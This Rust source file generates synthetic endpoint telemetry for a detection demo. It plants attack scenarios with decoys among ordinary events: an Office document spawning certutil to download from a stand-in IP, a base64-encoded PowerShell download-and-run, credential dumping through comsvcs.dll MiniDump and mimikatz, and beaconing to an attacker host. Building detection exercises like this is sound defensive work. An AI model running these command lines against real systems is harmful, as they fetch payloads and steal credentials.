//! Attacks on workstations.

use fastrand::Rng;
use kql_semantics::time::{TICKS_PER_MINUTE, TICKS_PER_SECOND};

use super::{Attack, Planted};
use crate::demo::event::{Event, at};
use crate::demo::tables::device_network_events::connection;
use crate::demo::tables::device_process_events::process;
use crate::demo::world::{Program, World, attacker, hex};

pub(super) const ATTACKS: [Attack; 5] =
    [office_shell, encoded_powershell, credential_dumping, new_program, beacon];

/// Numbers of programs in the world.
const OUTLOOK: usize = 4;
const CMD: usize = 8;
const POWERSHELL: usize = 9;
const CERTUTIL: usize = 19;

fn office_shell(world: &World, rng: &mut Rng, events: &mut Vec<Event>) -> Planted {
    // Where, the shell's parent, and minutes until its child; the last two are decoys.
    for (number, parent, minutes) in [
        (90, "winword.exe", 1),
        (91, "excel.exe", 3),
        (92, "winword.exe", 11),
        (93, "explorer.exe", 1),
    ] {
        let person = world.person(number);
        let device = world.device_of(person);
        let time = at(7, 9, 15, 0);
        let shell_id = 70_000 + number as i64;
        let shell = process(rng, device, person, world.program(CMD), time)
            .with("ProcessId", shell_id)
            .with(
                "ProcessCommandLine",
                "cmd.exe /c certutil -urlcache -split -f https://203.0.113.77/a.txt %TEMP%\\a.dll",
            )
            .with("InitiatingProcessFileName", parent)
            .with(
                "InitiatingProcessCommandLine",
                format!(
                    "\"{parent}\" /n \"C:\\Users\\{}\\Downloads\\Offer 2026.docm\"",
                    person.account
                ),
            );
        let child = process(
            rng,
            device,
            person,
            world.program(CERTUTIL),
            time + minutes * TICKS_PER_MINUTE,
        )
        .with("InitiatingProcessFileName", "cmd.exe")
        .with("InitiatingProcessId", shell_id)
        .with(
            "ProcessCommandLine",
            "certutil -urlcache -split -f https://203.0.113.77/a.txt C:\\Users\\Public\\a.dll",
        );
        events.extend([shell, child]);
    }
    let attacked = [90, 91].map(|number| world.workstation(number).name.clone());
    Planted::new("endpoint/office-starts-shell-that-downloads", "DeviceName", attacked)
}

fn encoded_powershell(world: &World, rng: &mut Rng, events: &mut Vec<Event>) -> Planted {
    let long = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    let lines = [
        (90, format!("powershell.exe -nop -w hidden -enc {long}")),
        (94, format!("powershell.exe -NoProfile -EncodedCommand {long}")),
        // Decoys: a short one, and a file whose name is long.
        (95, String::from("powershell.exe -EncodedCommand RwBlAHQALQBEAGEAdABlAA==")),
        (96, format!("powershell.exe -File C:\\Scripts\\{}.ps1", "inventory".repeat(8))),
    ];
    for (number, line) in lines {
        let person = world.person(number);
        let event = process(
            rng,
            world.device_of(person),
            person,
            world.program(POWERSHELL),
            at(7, 9, 17, number as i64 % 60),
        );
        events.push(event.with("ProcessCommandLine", line));
    }
    let attacked = [90, 94].map(|number| world.workstation(number).name.clone());
    Planted::new("endpoint/encoded-powershell", "DeviceName", attacked)
}

fn credential_dumping(world: &World, rng: &mut Rng, events: &mut Vec<Event>) -> Planted {
    let lines = [
        (
            90,
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Tasks\\x.bin full",
        ),
        (97, "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
        // Decoys: the library for another purpose, and a word that only begins alike.
        (98, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, RegisterTypeLib"),
        (99, "notepad.exe C:\\Reports\\mimikatzology-2026.txt"),
    ];
    let tool = Program {
        name: "rundll32.exe",
        folder: r"C:\Windows\System32",
        arguments: "",
        sha256: hex(rng, 64),
    };
    for (number, line) in lines {
        let person = world.person(number);
        let event =
            process(rng, world.device_of(person), person, &tool, at(7, 10, 4, number as i64 % 60));
        events.push(event.with("ProcessCommandLine", line).with("ProcessIntegrityLevel", "High"));
    }
    let attacked = [90, 97].map(|number| world.workstation(number).name.clone());
    Planted::new("endpoint/credential-dumping", "DeviceName", attacked)
}

fn new_program(world: &World, rng: &mut Rng, events: &mut Vec<Event>) -> Planted {
    // The second lies where programs belong, the third never talks: decoys.
    let programs = [
        (100, "syncsvc.exe", r"C:\Users\Public\Libraries", true),
        (101, "newtool.exe", r"C:\Program Files\NewTool", true),
        (102, "setup-1.2.exe", r"C:\Users\kofi\AppData\Local\Temp", false),
    ];
    for (number, name, folder, talks) in programs {
        let person = world.person(number);
        let device = world.device_of(person);
        let program = Program { name, folder, arguments: "", sha256: hex(rng, 64) };
        let time = at(11, 11, 6, 0);
        events.push(process(rng, device, person, &program, time));
        if talks {
            let to = (attacker(100), "relay.quiet-hosting.test");
            let time = time + 40 * TICKS_PER_SECOND;
            events.push(connection(rng, (device, person), &program, time, (&to.0, to.1)));
        }
    }
    Planted::new(
        "endpoint/new-program-talks-outside",
        "DeviceName",
        [world.workstation(100).name.clone()],
    )
}

fn beacon(world: &World, rng: &mut Rng, events: &mut Vec<Event>) -> Planted {
    // Where, how many, and how far a gap of 300 seconds strays; the last two are decoys.
    for (number, connections, stray) in [(103, 70, 4), (104, 49, 4), (105, 80, 140)] {
        let person = world.person(number);
        let device = world.device_of(person);
        let mut time = at(8, 8, 0, 11);
        for _ in 0..connections {
            let program = world.program(OUTLOOK);
            let address = attacker(number);
            events.push(connection(rng, (device, person), program, time, (&address, "")));
            time += (300 + rng.i64(-stray..=stray)) * TICKS_PER_SECOND;
        }
    }
    Planted::new("endpoint/beacon", "DeviceName", [world.workstation(103).name.clone()])
}
